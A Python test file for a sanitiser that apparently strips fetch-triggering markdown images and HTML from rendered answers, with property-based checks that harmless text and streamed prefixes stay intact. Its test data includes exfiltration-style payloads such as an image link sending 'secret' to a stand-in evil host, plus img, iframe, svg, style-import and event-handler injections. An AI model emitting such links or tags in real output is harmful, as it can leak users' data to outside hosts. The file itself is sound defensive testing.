"""Answers for pages of others: what would be fetched is written out, everything else stays to the letter."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.protocols.unfetched import unfetched, without_pictures_so_far

DRAWN = MarkdownIt("commonmark").enable("table")
FETCHES = (
    "![a](http://evil.example/?q=secret)", "See ![a\nb](http://evil.example) there.", "[![a](b)](c)", "![a [b] c](d)",
    "![a][r]\n\n[r]: http://evil.example", "- ![a](//evil.example)", "> # ![a](x)", "`a` ![b](c)", "![\\](x)](y)",
    "| a |\n|---|\n| ![b](http://evil.example) |", "<img src=http://evil.example>", "<IMG\nSRC='http://evil.example'>",
    "text <img src=x> text", "<style>@import url(http://evil.example)</style>", "<br><iframe src=x>",
    "<svg><image href='http://evil.example'/></svg>", "<div>\n```\n</div>\n\n![a](b)\n", "- a\n\n  ```\n![a](b)",
    "a\r\n\r\n![b](c)\r\n", "<b onmouseover=x>", "<p style='background:url(x)'>", "<!-- -->\n\n![a](b)",
    "<link rel=stylesheet href=x>",
)  # fmt: skip
STAYS = (
    "Bees dance [1], and never sing.", "`![a](b)` is a picture", "```\n![a](b)\n<img src=x>\n```", "    ![a](b)",
    "`vec![1, 2]` and `List<String>`", "a < b and b > a", "[a](http://other.example)", "line<br>line", "H<sub>2</sub>O",
    "Wow!", "<http://other.example>", "1 <2", "vec![1, 2]", "~~~html\n<script>x</script>\n~~~", "a\r\nb",
)  # fmt: skip


def fetched(text: str) -> list[str]:
    """What a page would fetch, or let run, that draws markdown with HTML in it."""
    found = []
    for token in DRAWN.parse(text):
        for it in (token, *(token.children or ())):
            if it.type == "image":
                found.append(it.attrs["src"])
            elif it.type in ("html_block", "html_inline") and any(
                sign in it.content for sign in ("=", "script", "style")
            ):
                found.append(it.content)
    return found


@pytest.mark.parametrize("text", FETCHES)
def test_what_would_be_fetched_is_written_out(text: str) -> None:
    assert fetched(text), "no example"
    assert fetched(unfetched(text)) == []


@pytest.mark.parametrize("text", STAYS)
def test_everything_else_stays(text: str) -> None:
    assert unfetched(text) == text


parts = st.lists(st.sampled_from(["![", "[", "]", "(", ")", "http://e", "\n", "\n\n", "`", "```", "\n```\n", "<div>",
                                  "<img src=", ">", "</div>", "- ", "  ", "> ", "\\", "a", "|", "\n|-|\n", "!", "<!--",
                                  "-->", "[r]: x", "~~~"]), max_size=30)  # fmt: skip


@given(parts)
def test_no_arrangement_is_fetched(pieces: list[str]) -> None:
    assert fetched(unfetched("".join(pieces))) == []


@given(parts, st.integers(0, 60))
def test_what_a_stream_shows_is_the_beginning_of_the_whole(pieces: list[str], at: int) -> None:
    text = "".join(pieces)
    assert unfetched(text).startswith(without_pictures_so_far(text[:at]))
